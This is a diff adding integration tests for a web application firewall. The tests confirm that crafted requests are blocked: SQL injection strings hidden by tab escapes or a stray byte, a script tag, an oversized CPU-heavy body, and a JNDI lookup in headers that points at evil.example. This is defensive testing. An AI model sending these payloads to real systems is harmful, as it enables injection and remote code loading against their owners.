@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import json
+import os
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
+import httpx
 import pytest
 
 from ramparts.events.webhooks import sign_webhook
@@ -190,3 +194,61 @@ def test_app_rule_file_and_disable(node: RunningNode, tmp_path: Path) -> None:
     assert node.gateway.post("/wafown", json={"sku": "SKU-INT-42"}).status_code == 403
     assert node.gateway.post("/wafown", json=ATTACK).status_code == 200  # sqli disabled
     assert node.gateway.post("/wafown", json={"c": "<script>x</script>"}).status_code == 403
+
+
+# -- the WAF adversary's findings (adv-waf), through a real node ----------------------------
+
+
+def test_crafted_cpu_heavy_body_is_refused_and_others_still_flow(app: RunningNode) -> None:
+    """F1: ~500 KB of punctuation exceeds the cost budget (fail closed), off the event loop."""
+    salt = os.urandom(3).hex()
+    body = json.dumps([f"{salt}{i:04d}" + "; " * 122 for i in range(2000)])
+
+    def crafted() -> httpx.Response:
+        with httpx.Client(base_url=str(app.gateway.base_url), timeout=120) as client:
+            return client.post("/pub", content=body, headers={"content-type": "application/json"})
+
+    with ThreadPoolExecutor(2) as pool:
+        heavy = [pool.submit(crafted) for _ in range(2)]
+        small = app.gateway.get("/pub", params={"q": "hello"})
+        results = [f.result() for f in heavy]
+    assert small.status_code == 200, small.text
+    for r in results:
+        assert r.status_code == 403, r.text
+        [event] = _waf_events(app, r.json()["request_id"])
+        assert event["rules"] == ["protocol-inspection-limit"]
+    big = {"items": [{"id": i, "text": f"Order {i}: it's fine (really) -- see #4. " * 8}
+                     for i in range(300)]}
+    assert app.gateway.post("/pub", json=big).status_code == 200  # benign ~100 KB JSON
+
+
+def test_json_sent_as_text_or_untyped_is_inspected_as_json(app: RunningNode) -> None:
+    """F2: the handler json.loads it anyway; its escapes (\\t) must not hide SQLi."""
+    body = json.dumps({"user": "x'\tor\t1=1--", "pw": "x"})
+    for headers in ({"content-type": "text/plain"}, {}):
+        r = app.gateway.post("/pub", content=body, headers=headers)
+        assert r.status_code == 403 and r.json()["code"] == "waf_blocked", (headers, r.text)
+
+
+def test_escaped_emoji_in_untyped_json_is_not_a_check_failure(app: RunningNode) -> None:
+    """F4: requests.post(data=json.dumps(...)) escapes emoji as surrogate pairs."""
+    body = json.dumps({"comment": "Looks great 👍", "code": "\\ud83d"})
+    for route in ("/pub", "/watch"):
+        r = app.gateway.post(route, content=body)
+        assert r.status_code == 200, (route, r.text)
+    r = app.gateway.post("/pub", content=b"a=%uD83D%uDE00&b=x%uDFFF%uD800",
+                         headers={"content-type": "application/x-www-form-urlencoded"})
+    assert r.status_code == 200, r.text
+
+
+def test_a_stray_byte_does_not_turn_inspection_off(app: RunningNode) -> None:
+    """F5: a text body with one invalid UTF-8 byte is still inspected (decoded leniently)."""
+    r = app.gateway.post("/pub", content=b"' or 1=1--\xff", headers={"content-type": "text/plain"})
+    assert r.status_code == 403 and r.json()["code"] == "waf_blocked", r.text
+
+
+def test_client_set_headers_reach_inspection(app: RunningNode) -> None:
+    """F9: X-Real-IP, Accept, Idempotency-Key... reach handlers, so they are inspected."""
+    for name in ("x-real-ip", "accept", "idempotency-key", "content-disposition"):
+        r = app.gateway.get("/pub", headers={name: "${jndi:ldap://evil.example/a}"})
+        assert r.status_code == 403, (name, r.text)
